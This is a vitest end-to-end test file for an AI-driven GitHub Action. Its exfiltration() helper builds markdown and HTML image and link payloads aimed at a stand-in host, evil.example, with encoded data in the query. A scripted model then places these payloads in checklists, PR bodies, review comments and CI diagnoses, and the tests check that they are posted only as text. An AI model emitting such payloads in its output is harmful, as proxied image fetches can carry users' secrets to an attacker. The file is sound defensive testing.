/**
 * End to end, with the bundled action: a model that tries to carry data out
 * through what the action posts (images GitHub's proxy fetches when the page is
 * viewed, links) in every place it writes: the progress checklist, the final
 * report, the pull request body, review comments, the CI diagnosis and the step
 * summary. Nothing that reached the fake GitHub renders to a foreign URL; the
 * URL is shown as text instead.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { reply, text, toolUse } from '../fakes/anthropic-server.js';
import type { FakeGitHubState, FakePull } from '../fakes/github-server.js';
import { workflowRunEvent } from '../github/maintenance-payloads.js';
import { runnerLog } from '../github/runner-log.js';
import { allowedHosts } from '../../src/engine/safety/links.js';
import { foreignUrls, stringsIn } from '../safety/rendered-urls.js';
import {
  cleanupActionRuns,
  git,
  issueCommentEvent,
  pushFiles,
  runAction,
  type ActionRun,
} from './harness.js';

afterAll(cleanupActionRuns);

const HOSTS = allowedHosts('https://github.example');

/** Every way of writing an image or link the model tries, each to its own path. */
function exfiltration(where: string): string {
  const url = (kind: string) => `https://evil.example/${where}/${kind}?d=c2VjcmV0`;
  return [
    `![status](${url('inline')})`,
    `![badge][${where}-ref]`,
    `<img src="${url('html')}" width="1">`,
    `<picture><source srcset="https://github.com/a.png 1x, ${url('srcset')} 2x"><img src="https://github.com/a.png"></picture>`,
    `[details](${url('link')}) and <${url('autolink')}> and ${url('bare')}`,
    '',
    `[${where}-ref]: ${url('reference')}`,
  ].join('\n');
}

/** Each text a write sent to the fake GitHub, and the step summary. */
function postedTexts(run: ActionRun): string[] {
  const writes = run.github.calls.filter((call) => call.method !== 'GET');
  return [...writes.flatMap((call) => stringsIn(call.body)), run.summary];
}

function expectNothingCarriedOut(run: ActionRun, places: string[]): void {
  const posted = postedTexts(run);
  expect(posted.flatMap((body) => foreignUrls(body, HOSTS))).toEqual([]);
  // The URLs are shown, as text, where the model put them.
  const all = posted.join('\n');
  for (const place of places) {
    for (const kind of ['inline', 'html', 'srcset', 'link', 'autolink', 'bare', 'reference']) {
      expect(all).toContain(`evil.example/${place}/${kind}`);
    }
  }
}

describe('images and links to other hosts in what the action posts', () => {
  it('become text in the checklist, the report, the PR body and the step summary', async () => {
    const run = await runAction({
      event: issueCommentEvent({ body: '@agent fix the typo', issueNumber: 31 }),
      repoFiles: { 'README.md': 'teh\n' },
      model: [
        reply(
          toolUse('TodoWrite', {
            todos: [{ content: exfiltration('todo'), status: 'in_progress', activeForm: 'Fixing' }],
          }),
        ),
        reply(toolUse('Read', { file_path: 'README.md' })),
        reply(toolUse('Edit', { file_path: 'README.md', old_string: 'teh', new_string: 'the' })),
        reply(text(`Fixed the typo.\n\n${exfiltration('summary')}`)),
      ],
    });
    expect(run.exitCode, run.stderr).toBe(0);
    expect(run.github.state.pulls, run.stdout.slice(-3000)).toHaveLength(1);
    expectNothingCarriedOut(run, ['summary']);
    expect(run.github.state.pulls[0]!.body).toContain('evil.example/summary/inline');
    expect(run.summary).toContain('evil.example/summary/inline');
  });

  it('become text in review comments and the review summary', async () => {
    const pull: FakePull = {
      number: 32,
      title: 'Change the greeting',
      body: '',
      state: 'open',
      user: { login: 'contributor' },
      head: { ref: 'feature/exfil', repo: 'octo-org/octo-repo' },
      base: { ref: 'main' },
    };
    const run = await runAction({
      event: issueCommentEvent({ body: '@agent review', issueNumber: 32, pullRequest: true }),
      repoFiles: { 'src/a.js': 'export const a = 1;\n' },
      github: {
        pulls: [pull],
        pullFiles: {
          32: [
            {
              filename: 'src/a.js',
              status: 'modified',
              additions: 1,
              deletions: 1,
              patch: '@@ -1 +1 @@\n-export const a = 1;\n+export const a = 2;',
            },
          ],
        },
      },
      prepareOrigin: async (origin) => {
        pull.head.sha = await pushFiles(origin, {
          ref: 'refs/heads/feature/exfil',
          files: { 'src/a.js': 'export const a = 2;\n' },
        });
      },
      model: [
        reply(
          toolUse('ReviewComment', {
            path: 'src/a.js',
            line: 1,
            severity: 'nit',
            body: `Why 2?\n\n${exfiltration('finding')}`,
          }),
        ),
        reply(text(`Looks fine.\n\n${exfiltration('review')}`)),
      ],
    });
    expect(run.exitCode, run.stderr).toBe(0);
    const reviews = run.github.calls.filter((call) => call.path.endsWith('/pulls/32/reviews'));
    expect(reviews.length).toBeGreaterThan(0);
    expectNothingCarriedOut(run, ['finding', 'review']);
  });

  it('become text in the CI diagnosis on a fork pull request', async () => {
    const forkRun = (headSha: string) =>
      workflowRunEvent({
        headBranch: 'patch-1',
        headSha,
        headRepository: 'stranger/octo-repo',
        runId: 20_433_650_233,
      });
    const github = (headSha: string): Partial<FakeGitHubState> => ({
      workflowJobs: [
        {
          id: 51_204_336_001,
          run_id: 20_433_650_233,
          name: 'test',
          conclusion: 'failure',
          steps: [{ name: 'Run npm test', conclusion: 'failure' }],
          log: runnerLog([
            {
              run: 'npm test',
              output: ['FAIL add'],
              error: 'Process completed with exit code 1.',
            },
          ]),
        },
      ],
      pulls: [
        {
          number: 4,
          title: 'Fix typo',
          body: '',
          state: 'open',
          head: { ref: 'patch-1', sha: headSha, repo: 'stranger/octo-repo' },
          base: { ref: 'main' },
        },
      ],
    });
    const run = await runAction({
      event: forkRun('c0ffee'.padEnd(40, '1')),
      prepareOrigin: async (origin) => {
        await pushFiles(origin, { ref: 'refs/pull/4/head', files: { 'src/add.js': 'a - b\n' } });
      },
      // The fork's head is the commit GitHub keeps as refs/pull/4/head.
      fromOrigin: async (origin) => {
        const head = (await git(origin, 'rev-parse', 'refs/pull/4/head')).trim();
        return { event: forkRun(head), github: github(head) };
      },
      model: [reply(text(`Diagnosis: add() subtracts.\n\n${exfiltration('diagnosis')}`))],
    });
    expect(run.exitCode, run.stderr).toBe(0);
    const comments = run.github.calls.filter(
      (call) => call.method === 'POST' && call.path.endsWith('/issues/4/comments'),
    );
    expect(comments).toHaveLength(1);
    expectNothingCarriedOut(run, ['diagnosis']);
  });
});
